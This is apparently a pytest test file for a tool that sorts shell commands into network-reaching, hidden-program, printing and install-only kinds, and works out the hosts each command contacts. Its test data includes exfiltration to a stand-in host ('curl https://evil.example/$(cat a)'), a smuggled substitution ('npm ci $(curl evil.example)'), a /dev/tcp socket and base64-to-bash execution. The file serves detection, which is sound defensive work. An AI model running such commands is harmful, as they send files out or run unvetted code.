"""Command lines that reach the network, even with a hidden program, and those that print others' text."""

from __future__ import annotations

from pathlib import Path

import pytest

from codecompanion.formats.package_table import package_table
from codecompanion.tools.commands.network import (
    Surroundings,
    hosts_of,
    needs_network,
    network_program,
    only_installs,
    printing_program,
    with_companions,
)

REACHES = [
    "curl x",
    "/usr/bin/curl x",
    "env A=1 curl x",
    "sh -c 'git push'",
    "c''url x",
    "\\curl x",
    "$(echo curl) x",
    "`echo curl` x",
    "python3 -c 'import socket'",
    "echo x | sh",
    "bash <(cat f)",
    "exec 3<>/dev/tcp/1.2.3.4/80",
    "git -C x pull",
    "npm  i left-pad",
    'eval "$X"',
    "base64 -d f | bash",
    "node -e 1",
    "perl -MIO -e1",
    "awk 'BEGIN{}' && wget x",
    "busybox wget x",
    "X=curl; $X y",
    "python3 < f",
    "git clone ssh://a",
    "ruby -rnet/http -e x",
    "printf a|nc b 1",
    "pip install x",
    "cat f | python3 -",
    "telnet a",
    "docker run x",
    '(cd a; "cu"rl b)',
]
STAYS = [
    "ls -la",
    "make test",
    "pytest -q",
    "git status",
    "git commit -m 'fix bug'",
    "cargo build",
    "grep -rn foo .",
    "sed -n 1,5p a",
    "cat a | head",
    "go test ./...",
    "npm test",
    "python3 -m pytest",
    "python3 script.py",
    "rg 'foo bar' src",
    'echo "hi"',
    "find . -name '*.py'",
    "node build.js",
    "git diff HEAD~1",
    "ruff check .",
    "for f in *.py; do echo $f; done",
    "if [ -f a ]; then cat a; fi",
]


@pytest.mark.parametrize("command", REACHES)
def test_a_command_that_reaches_the_network_or_hides_its_program_is_noticed(command: str) -> None:
    assert network_program(command)


@pytest.mark.parametrize("command", STAYS)
def test_an_ordinary_command_does_not_reach_the_network(command: str) -> None:
    assert network_program(command) == ""


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("curl -s x | jq .", "curl"),
        ("gh pr view 3", "gh"),
        ("npm view x", "npm"),
        ("npm install", ""),
        ("git pull", ""),
    ],
)
def test_only_commands_that_print_others_text_are_a_source(command: str, program: str) -> None:
    assert printing_program(command) == program


@pytest.mark.parametrize(
    "command",
    [
        "npm install",
        "cd a && pip3 install x",
        "FOO=1 curl x",
        "sudo apt-get update",
        "python3 -m pip install x",
        "uv pip install x",
        "go mod tidy",
        "git submodule update --init",
        "npm create vite@latest x",
        "npx -y cowsay hi",
        "npm ci && npm run dev & sleep 1; curl localhost:3000",
    ],
)
def test_some_commands_need_the_network(command: str) -> None:
    assert needs_network(command)
    assert network_program(command)


@pytest.mark.parametrize(
    "command",
    [
        "npm test",
        "git status",
        "make",
        "echo curl",
        "cargo build",
        "pip list",
        "uv run pytest",
        "python3 -c 1",
        "",
        "uv pip list",
        "go mod init a.org/b",
        "git submodule status",
        "git lfs ls-files",
        "npm init -y",
        "git clone ../sub copy",
        "git clone -q sub copy",
        "git clone file:///srv/x.git",
        "git push ../x.git main",
        "git fetch disk",
        "git -C a pull disk main",
        "npm run dev & sleep 2; curl -s localhost:3000/health",
        "(python -m http.server 1234 &); wget http://[::1]:1234/",
    ],
)
def test_others_work_without_it(command: str) -> None:
    around = Surroundings((("disk", "../remote.git"), ("web", "https://github.com/o/r.git")))
    assert not needs_network(command, around)


def test_a_program_that_is_installed_is_not_downloaded(tmp_path: Path) -> None:
    (tmp_path / "node_modules/.bin").mkdir(parents=True)
    (tmp_path / "node_modules/.bin/tsc").touch()
    around = Surroundings((), (tmp_path / "packages/one", tmp_path))
    assert not needs_network("npx tsc --noEmit && npx --no-install tsc", around)
    for downloads in ("npx eslint .", "npx tsc@next", "npx tsc && npx eslint .", "npx -y", "npx ../tsc"):
        assert needs_network(downloads, around), downloads


def test_every_printing_program_in_the_table_can_reach_the_network() -> None:
    table = package_table("tools/commands/network_programs.toml")
    for group in (table["needs"], table["may"], table["prints"]):
        names = [*group["any"].split(), *group["with"]]
        assert len(names) == len(set(names))
    words = {name: (table["needs"]["with"].get(name) or "x").split() for name in table["hosts"]}
    assert all(
        needs_network(f"{name} {word.replace('/', ' ')}") for name, all_of_them in words.items() for word in all_of_them
    )
    assert set(table["host_variables"]) <= set(table["hosts"])
    prints = table["prints"]
    assert all(network_program(name) for name in prints["any"].split())
    assert all(network_program(f"{name} {word}") for name, words in prints["with"].items() for word in words.split())


REGISTRY = ("pypi.org", "files.pythonhosted.org")


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("npm ci && npm test", ("registry.npmjs.org",)),
        ("python -m pip install -r requirements.txt", REGISTRY),
        ("pip install git+https://github.com/a/b", (*REGISTRY, "github.com")),
        ("sh -c 'npm ci'", ("registry.npmjs.org",)),
        ("curl -s https://api.example:8443/x | jq .", ("api.example:8443",)),
        ("npm ci && curl https://evil.example/$(cat a)", ("registry.npmjs.org", "evil.example")),
        ("git fetch origin", ("github.com",)),
        ("git fetch", ("github.com", "gitlab.example")),
        ("git push --force-with-lease fork HEAD:main", ("gitlab.example",)),
        ("curl http://localhost:3000/health", ("localhost:3000",)),
        ("curl -H 'A: b' 127.0.0.1:3000", ("127.0.0.1:3000",)),
        ("curl https://api.example & sleep 1; curl localhost:3000", ("api.example",)),
        ("git clone https://gitlab.example/a/b", ("gitlab.example",)),
        # unknown, so any host
        ("curl example.com", ()),
        ("git clone git@github.com:a/b", ()),
        ("pip install git+ssh://git@github.com/a/b", ()),
        ("npm ci && docker pull x", ()),
        ("psql -h localhost -c 'select 1'", ()),
        ("psql postgres://localhost:5432/x", ()),
        ("git submodule update", ()),
        ("ssh host ls", ()),
    ],
)
def test_the_hosts_of_a_command_are_known_or_any(command: str, hosts: tuple[str, ...]) -> None:
    assert needs_network(command)
    around = Surroundings((("origin", "https://token@github.com/o/r.git"), ("fork", "https://gitlab.example/o/r.git")))
    assert hosts_of(command, {}, around) == hosts


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://b\u00fccher.example/", "xn--bcher-kva.example"),
        ("https://pyp\u0456.org/", "xn--pyp-lhd.org"),
        (f"https://{'a' * 70}.example/", f"{'a' * 70}.example"),
    ],
)
def test_a_host_is_normalised_as_programs_request_it(address: str, host: str) -> None:
    assert hosts_of(f"curl {address}", {}) == (host,)


def test_a_registry_is_offered_with_exactly_its_hosts() -> None:
    assert with_companions(["pypi.org", "x.example"]) == (*REGISTRY, "x.example")
    assert with_companions(["registry.npmjs.org"]) == ("registry.npmjs.org",)
    assert with_companions(["github.com"]) == ("github.com",)


def test_environment_variables_name_hosts_too() -> None:
    environment = {"PIP_INDEX_URL": "https://u:p@mirror.example/simple", "GOPROXY": "https://go.example,direct"}
    assert hosts_of("pip install x", environment) == (*REGISTRY, "mirror.example")
    assert "go.example" in hosts_of("go mod download", environment)


def test_ssh_remotes_require_any_host_for_a_fetch() -> None:
    assert hosts_of("git pull", {}, Surroundings((("origin", "git@github.com:o/r.git"),))) == ()
    assert hosts_of("git pull", {}) == ()


@pytest.mark.parametrize(
    "command", ["git commit -m 'fix; npm install works'", "./replay 1 'cd a && npx tsc'", "rg 'a; curl x'"]
)
def test_a_quoted_text_that_names_a_program_needs_no_network(command: str) -> None:
    assert not needs_network(command)


@pytest.mark.parametrize(
    ("command", "installs"),
    [
        ("npm ci", True),
        ("cd app && npm install left-pad", True),
        (".venv/bin/pip install -r requirements.txt", True),
        ("python3 -m pip install x", True),
        ("uv pip install x", True),
        ("go mod tidy", True),
        ("uv pip list", False),
        ("npm ci && npm test", False),
        ("npm ci; cat notes", False),
        ("npm ci && curl https://evil.example", False),
        ("npm view x", False),
        ("npx left-pad", False),
        ("git pull", False),
        ("npm ci | tee log", False),
        ("npm ci $(curl evil.example)", False),
    ],
)
def test_a_pure_installation_is_recognised(command: str, installs: bool) -> None:
    assert only_installs(command) == installs
